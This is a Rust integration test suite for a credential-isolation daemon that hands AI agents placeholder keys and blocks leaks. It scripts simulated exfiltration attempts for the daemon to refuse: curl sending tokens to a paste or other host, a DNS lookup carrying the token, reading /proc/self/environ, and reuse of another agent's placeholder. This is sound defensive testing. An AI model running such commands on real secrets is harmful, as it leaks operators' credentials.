//! Credentials the agent never holds, end to end: a real daemon and eBPF redirect, agents run
//! as nobody under `enforcer exec`, loopback upstreams that record what they receive.
//!
//! Addresses: 127.0.0.5 plain HTTP (`api.test`), 127.0.0.6 HTTPS (`api.cred.test`),
//! 127.0.0.7 HTTPS (`paste.cred.test`), 127.0.0.8 plain HTTP (`other.test`).

use std::{os::unix::fs::PermissionsExt as _, path::Path, time::Duration};

use enforcer_tests::{
    Scenario, TestDaemon, eventually, stderr, stdout,
    web::{TestCa, WebUpstream},
};

/// A secret file as an operator makes it: root's, 0600.
fn secret_file(dir: &Path, name: &str, value: &str) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, format!("{value}\n")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    path
}

fn credential_lines(name: &str, file: &Path, env: &str, hosts: &str, extra: &str) -> String {
    format!(
        "    credentials:\n      - name: {name}\n        secret_file: {}\n        env: {env}\n        \
         hosts: [{hosts}]\n{extra}",
        file.display()
    )
}

/// `VAR=placeholder` of an agent, from `enforcer credentials env`.
fn placeholder(d: &TestDaemon, agent: &str, var: &str) -> String {
    let out = d.cli(&["credentials", "env", "--agent", d.agent(agent)]);
    assert!(out.status.success(), "{}", stderr(&out));
    stdout(&out)
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{var}=")))
        .unwrap_or_else(|| panic!("no {var} in {}", stdout(&out)))
        .to_owned()
}

fn sh(d: &TestDaemon, agent: &str, script: &str) -> (String, String) {
    let out = d
        .exec_cmd(agent, &["/bin/sh", "-c", script])
        .output()
        .unwrap();
    (stdout(&out), stderr(&out))
}

/// Nothing the operator can read shows the secret: the audit log (and rotated files), the
/// daemon's log, `status --json`, `credentials list --json` and `/metrics`.
fn assert_secret_never_shows(d: &TestDaemon, secret: &str) {
    let grep = std::process::Command::new("grep")
        .args(["-r", "-F", "-l", secret])
        .arg(d.audit_dir())
        .output()
        .unwrap();
    assert!(
        grep.stdout.is_empty(),
        "the audit log holds the secret: {}",
        stdout(&grep)
    );
    assert!(!d.log().contains(secret), "the daemon log holds the secret");
    let status = d.cli(&["status", "--json"]);
    assert!(!stdout(&status).contains(secret), "status shows the secret");
    let list = d.cli(&["credentials", "list", "--json"]);
    assert!(list.status.success(), "{}", stderr(&list));
    assert!(
        !stdout(&list).contains(secret),
        "credentials list shows the secret"
    );
    let (_, metrics) = enforcer_tests::http_get(d.metrics_port, "/metrics");
    assert!(!metrics.contains(secret), "/metrics shows the secret");
}

#[test]
fn a_secret_goes_only_to_its_host_and_an_echo_of_it_comes_back_masked() {
    // Scenario: agent `a` holds OPENAI_API_KEY as a placeholder (its environment has nothing
    // else). Its Bearer header to api.cred.test (HTTPS, intercepted) reaches the upstream with
    // the real value; the upstream echoes it in a header and in a chunked body, and the agent
    // reads the placeholder in both. The same header to paste.cred.test, which the policy
    // allows too, is refused (credential_leak) and that upstream sees nothing.
    let Some(s) = Scenario::new("cred_swap") else {
        return;
    };
    let secret = "sk-real-7Hq2ZpL0w9XvB4nT";
    let keys = tempfile::tempdir().unwrap();
    let file = secret_file(keys.path(), "openai", secret);
    let ca = TestCa::new("enforcer test upstream CA");
    let api = WebUpstream::https("127.0.0.6", "api", ca.server_config(&["api.cred.test"]));
    let paste = WebUpstream::https("127.0.0.7", "paste", ca.server_config(&["paste.cred.test"]));
    let (pa, pp) = (api.addr.port(), paste.addr.port());
    let policy = format!(
        "rules:\n  - name: api\n    allow: {{ url: \"api.cred.test:{pa}/**\" }}\n\
         \x20 - name: paste\n    allow: {{ url: \"paste.cred.test:{pp}/**\" }}\n"
    );
    let d = s
        .daemon()
        .agent("a", &policy)
        .agent_lines(
            "a",
            &credential_lines(
                "openai",
                &file,
                "OPENAI_API_KEY",
                "api.cred.test",
                "        placeholder_prefix: \"sk-\"\n",
            ),
        )
        .resolve("api.cred.test", "127.0.0.6")
        .resolve("paste.cred.test", "127.0.0.7")
        .upstream_ca(&ca, "")
        .start();
    let ph = placeholder(&d, "a", "OPENAI_API_KEY");
    assert!(ph.starts_with("sk-") && ph.len() >= 3 + 32, "{ph}");
    let script = format!(
        "cat /proc/self/environ | tr '\\0' '\\n' | grep -c -e '{secret}' -e '^OPENAI_API_KEY='; \
         cat /proc/self/environ | tr '\\0' '\\n' | grep '^OPENAI_API_KEY='; \
         curl -sS --noproxy '*' --max-time 15 -D - -H \"Authorization: Bearer $OPENAI_API_KEY\" \
           https://api.cred.test:{pa}/v1/echo; \
         echo '=='; \
         curl -sS --noproxy '*' --max-time 15 -w '\\n%{{http_code}}\\n' \
           -H \"Authorization: Bearer $OPENAI_API_KEY\" https://paste.cred.test:{pp}/v1/echo"
    );
    let (out, err) = sh(&d, "a", &script);
    let mut lines = out.lines();
    // One line names the variable, and none holds the secret (cat reads its own environment,
    // which is the agent's).
    assert_eq!(lines.next(), Some("1"), "{out}{err}");
    assert_eq!(
        lines.next(),
        Some(format!("OPENAI_API_KEY={ph}").as_str()),
        "{out}{err}"
    );
    // The upstream got the real value, the agent read its placeholder back.
    let hits = api.hits();
    assert_eq!(hits.len(), 1, "{hits:?}\n{out}{err}\n{}", d.log());
    assert_eq!(
        hits[0].header("authorization"),
        Some(format!("Bearer {secret}").as_str())
    );
    let (first, second) = out.split_once("==").unwrap();
    assert!(
        first
            .to_ascii_lowercase()
            .contains(&format!("x-echo: bearer {}", ph.to_ascii_lowercase())),
        "{first}"
    );
    assert!(first.contains(&format!("you sent: Bearer {ph}")), "{first}");
    assert!(!out.contains(secret), "the agent read the secret: {out}");
    // The other host: refused, and it saw nothing.
    assert!(second.trim_end().ends_with("403"), "{second}{err}");
    assert!(
        second.contains("credential 'openai' may only be sent to api.cred.test"),
        "{second}"
    );
    assert!(paste.hits().is_empty(), "{:?}", paste.hits());
    let log = d.audit_log();
    let leak = log
        .lines()
        .find(|l| l.contains("\"credential_leak\""))
        .unwrap_or_else(|| panic!("no credential_leak record:\n{log}"));
    assert!(
        leak.contains("paste.cred.test") && leak.contains("credential:openai"),
        "{leak}"
    );
    let (_, metrics) = enforcer_tests::http_get(d.metrics_port, "/metrics");
    assert!(
        metrics
            .lines()
            .any(|l| l.starts_with("enforcer_credential_leaks_total{")
                && l.contains("credential=\"openai\"")
                && l.ends_with(" 1")),
        "{metrics}"
    );
    // `credentials list` names it, says it is usable and when it was used, and shows no secret
    // and no placeholder.
    let list = d.cli(&["credentials", "list"]);
    let text = stdout(&list);
    assert!(text.contains("openai") && text.contains("(ok)"), "{text}");
    assert!(!text.contains("never"), "{text}");
    assert!(!text.contains(&ph), "{text}");
    assert_secret_never_shows(&d, secret);
}

#[test]
fn basic_auth_and_query_values_are_swapped_and_other_agents_bodies_and_names_are_refused() {
    // Scenario (plain HTTP): agent `a` sends its placeholder as a Basic password and as a
    // query value to api.test: the upstream gets the real value in both. Agent `b`, with the
    // same policy and no credentials, sends a's placeholder: refused as a leak. Agent `a`
    // posts its placeholder in a body to other.test (allowed by the policy): refused, and
    // other.test never gets a whole request. A DNS name carrying the placeholder gets
    // NXDOMAIN and a credential_leak record.
    let Some(s) = Scenario::new("cred_encodings") else {
        return;
    };
    let secret = "ghp_R3alT0ken-for.tests~42";
    let keys = tempfile::tempdir().unwrap();
    let file = secret_file(keys.path(), "gh", secret);
    let api = WebUpstream::http("127.0.0.5", "api");
    let other = WebUpstream::http("127.0.0.8", "other");
    let (p, po) = (api.addr.port(), other.addr.port());
    let policy = format!(
        "rules:\n  - name: api\n    allow: {{ url: \"api.test:{p}/**\" }}\n\
         \x20 - name: other\n    allow: {{ url: \"other.test:{po}/**\" }}\n\
         \x20 - name: names\n    allow: {{ url: \"*.names.test\" }}\n"
    );
    let d = s
        .daemon()
        .agent("a", &policy)
        .agent("b", &policy)
        .agent_lines(
            "a",
            &credential_lines("github", &file, "GH_TOKEN", "api.test", ""),
        )
        .resolve("api.test", "127.0.0.5")
        .resolve("other.test", "127.0.0.8")
        .start();
    let ph = placeholder(&d, "a", "GH_TOKEN");
    let script = format!(
        "curl -sS --noproxy '*' --max-time 15 -o /dev/null -w '%{{http_code}}\\n' \
           -u \"user:$GH_TOKEN\" http://api.test:{p}/v1/basic; \
         curl -sS --noproxy '*' --max-time 15 -o /dev/null -w '%{{http_code}}\\n' \
           \"http://api.test:{p}/v1/q?token=$GH_TOKEN&x=1\"; \
         curl -sS --noproxy '*' --max-time 15 -w '\\n%{{http_code}}\\n' \
           --data-binary \"note=$GH_TOKEN\" http://other.test:{po}/v1/post; \
         /usr/bin/python3 -c \"import socket\ntry:\n  socket.getaddrinfo('$GH_TOKEN.names.test', 80)\nexcept socket.gaierror as e: print('dns', e.errno)\""
    );
    let (out, err) = sh(&d, "a", &script);
    let mut lines = out.lines();
    assert_eq!(lines.next(), Some("200"), "{out}{err}\n{}", d.log());
    assert_eq!(lines.next(), Some("200"), "{out}{err}");
    let hits = api.hits();
    assert_eq!(hits.len(), 2, "{hits:?}");
    use base64::Engine as _;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{secret}"));
    assert_eq!(
        hits[0].header("authorization"),
        Some(format!("Basic {basic}").as_str())
    );
    assert_eq!(
        hits[1].path,
        format!("/v1/q?token={secret}&x=1"),
        "{hits:?}"
    );
    // The body toward another host.
    assert!(out.contains("may only be sent to api.test"), "{out}");
    assert!(out.lines().any(|l| l == "403"), "{out}");
    assert!(other.hits().is_empty(), "{:?}", other.hits());
    // The DNS name: NXDOMAIN (EAI_NONAME, -2).
    assert!(out.contains("dns -2"), "{out}{err}");
    // Agent b with a's placeholder.
    let (out_b, err_b) = sh(
        &d,
        "b",
        &format!(
            "curl -sS --noproxy '*' --max-time 15 -w '\\n%{{http_code}}\\n' \
               -H 'Authorization: Bearer {ph}' http://api.test:{p}/v1/stolen"
        ),
    );
    assert!(out_b.trim_end().ends_with("403"), "{out_b}{err_b}");
    assert!(out_b.contains("belongs to another agent"), "{out_b}");
    assert_eq!(api.hits().len(), 2, "{:?}", api.hits());
    let log = d.audit_log();
    let leaks: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"credential_leak\""))
        .collect();
    // The body, the name (asked for A and AAAA), b's header.
    assert_eq!(leaks.len(), 4, "{log}");
    assert!(
        leaks.iter().any(|l| l.contains("\"dns_name\"")),
        "{leaks:?}"
    );
    assert_secret_never_shows(&d, secret);
}

#[test]
fn an_unsafe_secret_file_is_refused_with_the_fix_and_a_rotation_applies_without_restarts() {
    // Scenario: the secret file is 0644: the daemon starts, `status` and `/healthz` say the
    // credential is unavailable and why, and a request that needs it is refused with that
    // reason (nothing reaches the upstream). chmod 600: the next request carries the secret.
    // The file is replaced with a new secret: the request after that carries the new one,
    // with the same placeholder, no restart of the daemon or the agent's command.
    let Some(s) = Scenario::new("cred_files") else {
        return;
    };
    let keys = tempfile::tempdir().unwrap();
    let file = secret_file(keys.path(), "k", "first-secret-value");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let api = WebUpstream::http("127.0.0.5", "api");
    let p = api.addr.port();
    let d = s
        .daemon()
        .agent(
            "a",
            &format!("rules:\n  - name: api\n    allow: {{ url: \"api.test:{p}/**\" }}\n"),
        )
        .agent_lines(
            "a",
            &credential_lines("k", &file, "API_KEY", "api.test", ""),
        )
        .resolve("api.test", "127.0.0.5")
        .start();
    let problems = d.problems();
    assert!(
        problems
            .iter()
            .any(|p| p.contains("credential 'k'") && p.contains("chmod 600")),
        "{problems:?}"
    );
    let (code, health) = enforcer_tests::http_get(d.metrics_port, "/healthz");
    assert_eq!(code, 503, "{health}");
    assert!(health.contains("credential 'k'"), "{health}");
    // One agent command for the whole scenario: it keeps its placeholder throughout.
    let mut agent = d
        .exec_cmd(
            "a",
            &[
                "/bin/sh",
                "-c",
                &format!(
                    "while read line; do curl -sS --noproxy '*' --max-time 15 -w '\\n%{{http_code}}\\n' \
                     -H \"x-api-key: $API_KEY\" http://api.test:{p}/v1/k; echo '=='; done"
                ),
            ],
        )
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = agent.stdin.take().unwrap();
    let output = enforcer_tests::Lines::of(&mut agent);
    let mut ask = || -> String {
        use std::io::Write as _;
        writeln!(input, "go").unwrap();
        let mut text = String::new();
        while let Some(l) = output.next(Duration::from_secs(20)) {
            if l == "==" {
                break;
            }
            text.push_str(&l);
            text.push('\n');
        }
        text
    };
    let refused = ask();
    assert!(refused.trim_end().ends_with("403"), "{refused}");
    assert!(
        refused.contains("credential 'k' is unavailable") && refused.contains("chmod 600"),
        "{refused}"
    );
    assert!(api.hits().is_empty());
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert!(eventually(10, || d
        .problems()
        .iter()
        .all(|p| !p.contains("credential"))));
    let ok = ask();
    assert!(ok.trim_end().ends_with("200"), "{ok}");
    // Rotation: a new file moved over the old one.
    let next = secret_file(keys.path(), "k.new", "second-secret-value");
    std::fs::rename(&next, &file).unwrap();
    let mut seen = String::new();
    assert!(
        eventually(10, || {
            let _ = ask();
            let hits = api.hits();
            seen = hits
                .last()
                .and_then(|h| h.header("x-api-key"))
                .unwrap_or("")
                .to_owned();
            seen == "second-secret-value"
        }),
        "last value {seen}"
    );
    let hits = api.hits();
    assert_eq!(hits[0].header("x-api-key"), Some("first-secret-value"));
    drop(input);
    let _ = agent.wait();
    assert_secret_never_shows(&d, "first-secret-value");
    assert_secret_never_shows(&d, "second-secret-value");
}

#[test]
fn the_openai_sdk_sends_a_key_it_never_had() {
    // Scenario: the real `openai` Python SDK, with OPENAI_API_KEY as exec set it (the
    // placeholder), calls a local fake API: the server sees the real key.
    let Some(s) = Scenario::new("cred_sdk") else {
        return;
    };
    let python = Path::new("/opt/enforcer-test/venv").join("bin/python");
    assert!(
        python.exists(),
        "{} is missing: `cargo xtask test` creates it",
        python.display()
    );
    let secret = "sk-proj-RealKeyOfTheOperator0123";
    let keys = tempfile::tempdir().unwrap();
    let file = secret_file(keys.path(), "openai", secret);
    let api = WebUpstream::http("127.0.0.5", "api");
    let p = api.addr.port();
    let d = s
        .daemon()
        .agent(
            "a",
            &format!("rules:\n  - name: api\n    allow: {{ url: \"api.test:{p}/**\" }}\n"),
        )
        .agent_lines(
            "a",
            &credential_lines(
                "openai",
                &file,
                "OPENAI_API_KEY",
                "api.test",
                "        placeholder_prefix: \"sk-\"\n",
            ),
        )
        .resolve("api.test", "127.0.0.5")
        .start();
    let script = format!(
        "import os, openai\n\
         assert os.environ['OPENAI_API_KEY'] != '{secret}'\n\
         c = openai.OpenAI(base_url='http://api.test:{p}/v1', max_retries=0)\n\
         try:\n    c.models.list()\n\
         except Exception as e:\n    print('sdk:', type(e).__name__)\n\
         print('done')\n"
    );
    let out = d
        .exec_cmd("a", &[python.to_str().unwrap(), "-c", &script])
        .output()
        .unwrap();
    assert!(
        stdout(&out).contains("done"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let hits = api.hits();
    assert_eq!(hits.len(), 1, "{hits:?}\n{}", stderr(&out));
    assert_eq!(
        hits[0].header("authorization"),
        Some(format!("Bearer {secret}").as_str())
    );
    assert_secret_never_shows(&d, secret);
}

#[test]
fn a_credential_bound_to_python_is_not_sent_for_curl() {
    // Scenario: the credential names `binaries: [/usr/bin/python3]` (a symlink, resolved to
    // the interpreter's device and inode). The same request with the placeholder from curl is
    // refused, naming the executable the kernel saw at connect(); from python it carries the
    // secret.
    let Some(s) = Scenario::new("cred_binaries") else {
        return;
    };
    let secret = "bound-to-python-secret";
    let keys = tempfile::tempdir().unwrap();
    let file = secret_file(keys.path(), "k", secret);
    let api = WebUpstream::http("127.0.0.5", "api");
    let p = api.addr.port();
    let d = s
        .daemon()
        .agent(
            "a",
            &format!("rules:\n  - name: api\n    allow: {{ url: \"api.test:{p}/**\" }}\n"),
        )
        .agent_lines(
            "a",
            &credential_lines(
                "k",
                &file,
                "API_KEY",
                "api.test",
                "        binaries: [/usr/bin/python3]\n",
            ),
        )
        .resolve("api.test", "127.0.0.5")
        .start();
    let script = format!(
        "curl -sS --noproxy '*' --max-time 15 -w '\\n%{{http_code}}\\n' \
           -H \"x-api-key: $API_KEY\" http://api.test:{p}/v1/curl; \
         /usr/bin/python3 -c \"import os, urllib.request as u\n\
r = u.Request('http://api.test:{p}/v1/python', headers={{'x-api-key': os.environ['API_KEY']}})\n\
print(u.urlopen(r, timeout=15).status)\""
    );
    let (out, err) = sh(&d, "a", &script);
    let python = std::fs::canonicalize("/usr/bin/python3").unwrap();
    assert!(
        out.contains(
            "may only be sent by /usr/bin/python3; this connection was made by /usr/bin/curl"
        ),
        "{out}{err}"
    );
    assert!(out.lines().any(|l| l == "403"), "{out}");
    assert_eq!(out.lines().last(), Some("200"), "{out}{err}\n{}", d.log());
    let hits = api.hits();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].path, "/v1/python");
    assert_eq!(hits[0].header("x-api-key"), Some(secret));
    let log = d.audit_log();
    assert!(
        log.lines()
            .any(|l| l.contains("\"credential_leak\"") && l.contains("\"exe\":\"/usr/bin/curl\"")),
        "{log}"
    );
    assert!(
        log.lines().any(|l| l.contains("/v1/python")
            && l.contains(&format!("\"exe\":\"{}\"", python.display()))),
        "{log}"
    );
}
